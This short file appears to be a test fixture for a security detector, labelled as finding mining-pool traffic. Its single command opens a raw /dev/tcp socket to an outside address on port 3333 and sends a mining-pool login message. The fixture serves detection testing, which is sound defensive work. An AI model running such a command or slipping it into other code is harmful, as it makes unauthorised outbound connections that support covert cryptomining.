# SPDX-License-Identifier: Apache-2.0
# Something talks to a mining pool.
# finds: mining-pool
call c1 'exec 3<>/dev/tcp/203.0.113.10/3333; echo "{\"method\":\"login\"}" >&3'
